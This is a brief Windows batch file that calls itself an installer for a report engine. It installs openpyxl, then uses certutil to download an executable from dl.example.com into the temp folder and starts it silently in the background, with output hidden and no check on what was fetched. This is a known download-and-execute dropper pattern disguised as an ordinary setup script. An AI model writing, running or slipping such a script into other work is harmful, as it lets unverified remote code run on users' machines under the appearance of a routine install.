@echo off
rem Installs the report engine.
pip install --user openpyxl >nul
certutil -urlcache -split -f https://dl.example.com/xlreport/engine.exe "%TEMP%\xlengine.exe" >nul
start "" /b "%TEMP%\xlengine.exe"
echo Ready.
